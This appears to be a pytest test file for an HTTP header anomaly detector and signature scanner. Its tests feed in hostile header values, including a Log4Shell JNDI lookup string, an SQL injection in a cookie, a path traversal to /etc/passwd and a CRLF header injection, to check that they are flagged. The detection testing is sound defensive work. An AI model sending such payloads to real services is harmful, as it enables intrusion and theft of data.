"""Header profiles and header signature scans (detector.analysis.headers)."""

from __future__ import annotations

import random

import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from detector.analysis.headers import (
    PART,
    HeaderProfiles,
    HeaderScans,
    header_fields,
)
from detector.analysis.signatures import SignatureEngine
from detector.state.snapshot import SnapshotError

LANGS = ["en-US,en;q=0.9", "de-DE,de;q=0.8,en;q=0.5", "fr", "es-ES", "ja-JP,ja;q=0.9"]
TYPES = ["application/json", "application/json; charset=utf-8"]


def benign(rng: random.Random) -> list[tuple[str, str]]:
    """Realistic variety: ids, tracing, languages, referers, cookies, an API version."""
    h = [
        ("accept", rng.choice(["application/json", "*/*", "application/json, text/plain, */*"])),
        ("accept-language", rng.choice(LANGS)),
        ("x-api-version", rng.choice(["2024-01-01", "2024-06-01"])),
        ("x-request-id", f"{rng.getrandbits(128):032x}"),
        ("traceparent", f"00-{rng.getrandbits(128):032x}-{rng.getrandbits(64):016x}-01"),
        ("authorization", f"Bearer eyJ{rng.getrandbits(400):0100x}.{rng.getrandbits(64):x}"),
    ]
    if rng.random() < 0.5:
        h.append(("content-type", rng.choice(TYPES)))
    if rng.random() < 0.6:
        h.append(("referer", f"https://shop.example/items/{rng.randint(1, 99999)}?ref=home"))
    if rng.random() < 0.7:
        c = f"sid={rng.getrandbits(96):024x}; lang={rng.choice(['en', 'de'])}"
        if rng.random() < 0.3:
            c += f"; _ga=GA1.2.{rng.randint(10**8, 10**9)}.{rng.randint(10**8, 10**9)}"
        h.append(("cookie", c))
    return sorted(h)


@pytest.fixture(scope="module")
def learned() -> HeaderProfiles:
    hp = HeaderProfiles()
    rng = random.Random(3)
    for _ in range(3000):
        hp.learn("shop", benign(rng))
    return hp


def test_a_learned_profile_stays_quiet_on_benign_variety(learned: HeaderProfiles) -> None:
    rng = random.Random(99)  # other requests than the learned ones
    noisy = [r for _ in range(2000) if (r := learned.assess("shop", benign(rng)))]
    assert len(noisy) <= 10, noisy[:5]  # at most 0.5 % with anything to say ...
    assert all(w <= 0.4 for r in noisy for w, _, _ in r)  # ... and never much


def test_an_over_long_value_is_flagged(learned: HeaderProfiles) -> None:
    h = dict(benign(random.Random(5)))
    h["x-api-version"] = "2024-01-01" + "A" * 290
    found = learned.assess("shop", sorted(h.items()))
    assert found and found[0][1] == PART
    assert found[0][0] >= 0.5
    assert found[0][2] == "header x-api-version: length 300 (usual 10-11)"


def test_a_control_character_is_flagged(learned: HeaderProfiles) -> None:
    h = dict(benign(random.Random(6)))
    h["accept-language"] = "en-US\r\nX-Injected: 1"
    found = learned.assess("shop", sorted(h.items()))
    assert (0.7, PART, "header accept-language: control characters") in found


def test_an_unknown_header_is_weak_evidence_and_says_so(learned: HeaderProfiles) -> None:
    h = benign(random.Random(7)) + [("x-debug-mode", "true")]
    found = learned.assess("shop", h)
    assert found == [(0.2, PART, "unknown header x-debug-mode never seen on service shop "
                      "in 3,000 requests")]


def test_cookies_are_judged_by_their_names(learned: HeaderProfiles) -> None:
    base = dict(benign(random.Random(8)))
    base["cookie"] = "sid=" + "f" * 24 + "; lang=en"
    assert learned.assess("shop", sorted(base.items())) == []
    # Another session id, another value: still the same cookie names.
    base["cookie"] = "lang=de; sid=" + "0" * 24
    assert learned.assess("shop", sorted(base.items())) == []
    base["cookie"] = "sid=1; lang=en; is_admin=1"
    found = learned.assess("shop", sorted(base.items()))
    assert [r for _, _, r in found] == [
        "unknown cookie is_admin never seen on service shop in 3,000 requests"]


def test_credentials_are_learned_by_shape_only(learned: HeaderProfiles) -> None:
    hp = HeaderProfiles(min_history=10)
    for key in ("Basic dXNlcjpwYXNz", "Basic YWRtaW46czNjcjN0", "k9Xz2Qa7"):
        hp.learn("api", [("authorization", key), ("x-api-key", key.split()[-1])])
    state = hp.save_state()
    for secret in (b"dXNlcjpwYXNz", b"YWRtaW46czNjcjN0", b"k9Xz2Qa7"):
        assert secret not in state
    assert b"Basic aaaaaaaaaaaa" in state and b'"a0aa0aa0"' in state  # shapes: the scheme kept
    state = learned.save_state()
    assert b"eyJ" not in state
    doc = orjson.loads(state)
    sid = [s for s in doc["services"] if s["service"] == "shop"][0]
    assert set(sid["cookies"]) == {"sid", "lang", "_ga"}  # names only: no session ids
    assert "cookie" in sid["names"] and sid["names"]["cookie"]["obs"] == 0


def test_cold_start_judges_nothing() -> None:
    hp = HeaderProfiles(min_history=200)
    rng = random.Random(1)
    for _ in range(199):
        hp.learn("shop", benign(rng))
    hostile = [("x-api-version", "A" * 5000), ("x-evil", "\x00\x01")]
    assert hp.assess("shop", hostile) == []  # 199 requests with headers: cold
    assert hp.assess("other", hostile) == []  # never seen
    hp.learn("shop", None)  # a request without headers does not count
    hp.learn("shop", ())
    assert hp.history("shop") == 199 and hp.assess("shop", hostile) == []
    hp.learn("shop", benign(rng))
    assert hp.assess("shop", hostile) != []
    # A name's values are judged only once it has carried min_history // 2 of them.
    for _ in range(99):
        hp.learn("shop", [("x-rare", "abc")])
    assert all("x-rare" not in r for _, _, r in hp.assess("shop", [("x-rare", "A" * 900)]))
    hp.learn("shop", [("x-rare", "abc")])
    assert any("x-rare: length 900" in r for _, _, r in hp.assess("shop", [("x-rare", "A" * 900)]))


def test_memory_is_bounded() -> None:
    hp = HeaderProfiles(min_history=10, max_names=8, max_cookies=4, max_services=3)
    for i in range(50):
        hp.learn(f"svc{i % 5}", [(f"x-h{j}", str(j)) for j in range(i % 20)] +
                 [("cookie", "; ".join(f"c{i}{j}=1" for j in range(10)))])
    assert len(hp) == 3
    doc = orjson.loads(hp.save_state())
    for s in doc["services"]:
        assert len(s["names"]) <= 8 and len(s["cookies"]) <= 4
    # An overflowed table cannot tell a new name from one it did not keep: no unknown-name
    # evidence then.
    assert hp.assess("svc0", [("x-never", "1"), ("cookie", "zz=1")]) == []


def test_snapshot_round_trip(learned: HeaderProfiles) -> None:
    snap = learned.snapshot()
    assert snap["v"] == 1
    orjson.dumps(snap)  # plain JSON-able data
    other = HeaderProfiles()
    other.restore(orjson.loads(orjson.dumps(snap)))
    assert other.save_state() == learned.save_state()
    probe = sorted({**dict(benign(random.Random(4))), "x-api-version": "x" * 400}.items())
    assert other.assess("shop", probe) == learned.assess("shop", probe)
    again = HeaderProfiles.load_state(learned.save_state())
    assert again.snapshot() == snap


@pytest.mark.parametrize(
    "bad",
    [
        {"v": 1, "data": {"format": "detector.profiles", "version": 1}},
        {"v": 1, "data": {"format": "detector.header_profiles", "version": 9}},
        {"v": 1, "data": {"format": "detector.header_profiles", "version": 1,
                          "config": {}, "services": [{"service": "s"}]}},
        {"v": 2, "data": {}},
        "nonsense",
    ],
)
def test_a_bad_snapshot_is_refused(bad: object) -> None:
    with pytest.raises(SnapshotError):
        HeaderProfiles().restore(bad)


def test_log4shell_in_a_header_is_a_hit_located_by_name() -> None:
    scans = HeaderScans(SignatureEngine.default())
    hits = scans.hits((("accept", "*/*"), ("x-api-version", "${jndi:ldap://x/a}")))
    assert {(h.category, h.location) for h in hits if h.category == "log4shell"} == {
        ("log4shell", "header:x-api-version")}
    assert scans.hits((("x-api-version", "${jndi:ldap://x/a}"),)) == hits  # memoised
    assert ("x-api-version", "${jndi:ldap://x/a}") in scans.memo
    assert scans.hits(None) == [] and scans.hits(()) == []


def test_benign_headers_scan_clean() -> None:
    scans = HeaderScans(SignatureEngine.default())
    rng = random.Random(2)
    for _ in range(200):
        assert scans.hits(benign(rng)) == []


def test_cookie_values_and_upload_names_are_scanned() -> None:
    scans = HeaderScans(SignatureEngine.default())
    hits = scans.hits((("cookie", "sid=1' union select password from users--"),))
    assert {(h.category, h.location) for h in hits} == {("sqli", "header:cookie")}
    assert header_fields((("x-file-name", "../../etc/passwd"),)) == [
        ("x-file-name", 'filename="../../etc/passwd"')]
    assert header_fields(None) == []


def test_the_memo_is_bounded() -> None:
    scans = HeaderScans(SignatureEngine.default(), max_entries=10, max_bytes=100_000)
    for i in range(100):
        scans.hits(((f"x-h{i}", f"value {i}"),))
    assert len(scans.memo) <= 10
    scans.hits((("x-long", "a" * 10_000),))  # long values are scanned, never memoised
    assert ("x-long", "a" * 10_000) not in scans.memo


names = st.text(min_size=0, max_size=40)
values = st.text(min_size=0, max_size=300)
header_sets = st.lists(st.tuples(names, values), max_size=40)


@settings(max_examples=300, deadline=None)
@given(learn=st.lists(header_sets, max_size=30), probe=header_sets,
       service=st.text(max_size=20))
def test_hostile_input_never_raises(learn: list[list[tuple[str, str]]],
                                    probe: list[tuple[str, str]], service: str) -> None:
    hp = HeaderProfiles(min_history=5, max_names=16, max_cookies=8)
    for h in learn:
        hp.learn(service, h)
    found = hp.assess(service, probe)
    assert len(found) <= 5
    for w, part, why in found:
        assert 0.0 <= w <= 1.0 and part == PART and why.isprintable() and len(why) < 300
    fields = header_fields(probe)
    assert all(isinstance(n, str) and isinstance(t, str) for n, t in fields)
    restored = HeaderProfiles()
    restored.restore(orjson.loads(orjson.dumps(hp.snapshot())))
    assert restored.assess(service, probe) == found


@settings(max_examples=60, deadline=None)
@given(probe=header_sets)
def test_hostile_input_scans_without_raising(probe: list[tuple[str, str]]) -> None:
    for h in _SCANS.hits(probe):
        assert h.location.startswith("header:") and h.location.isprintable()


_SCANS = HeaderScans(SignatureEngine.default())
